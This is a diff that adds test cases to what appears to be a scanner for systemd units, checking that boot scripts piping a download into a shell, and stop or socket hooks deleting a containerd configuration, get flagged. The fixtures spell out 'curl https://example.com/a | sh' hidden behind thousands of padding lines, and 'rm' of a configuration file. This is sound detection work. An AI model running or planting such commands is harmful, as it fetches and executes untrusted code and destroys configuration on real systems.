@@ -321,6 +321,34 @@ describe('a unit in a folder of packages', () => {
       ['boot-runs-download /usr/bin/first-boot.sh:2'],
     ],
     [
+      'whose large script lies among programs',
+      {
+        ...files,
+        ...wanted,
+        [FILE]: '[Service]\nExecStart=/usr/bin/first-boot\n',
+        '/usr/bin/first-boot': {
+          content: `#!/bin/sh\ncurl https://example.com/a | sh\n${'true\n'.repeat(20_000)}`,
+          mode: 0o755,
+        },
+      },
+      ['boot-runs-download /usr/bin/first-boot:2'],
+    ],
+    [
+      'whose commands for its end write a configuration',
+      { ...files, ...wanted, [FILE]: `[Service]\nExecStart=/bin/true\nExecStopPost=/bin/rm ${CONFIG}\n` },
+      [`writes containerd ${FILE}:3`],
+    ],
+    [
+      'that a socket starts something for',
+      {
+        ...withoutScript,
+        '/usr/lib/systemd/system/a.socket': `[Socket]\nListenStream=/run/a\nExecStartPost=/bin/rm ${CONFIG}\n`,
+        '/usr/lib/systemd/system/a.service': '[Service]\nExecStart=/bin/true\n',
+        '/etc/systemd/system/multi-user.target.wants/a.socket': { symlink: '/usr/lib/systemd/system/a.socket' },
+      },
+      ['writes containerd /usr/lib/systemd/system/a.socket:3'],
+    ],
+    [
       'that writes a configuration',
       { ...files, ...wanted, [SCRIPT]: `#!/bin/sh\nrm ${CONFIG}\n` },
       [`writes containerd ${FILE}:2`],
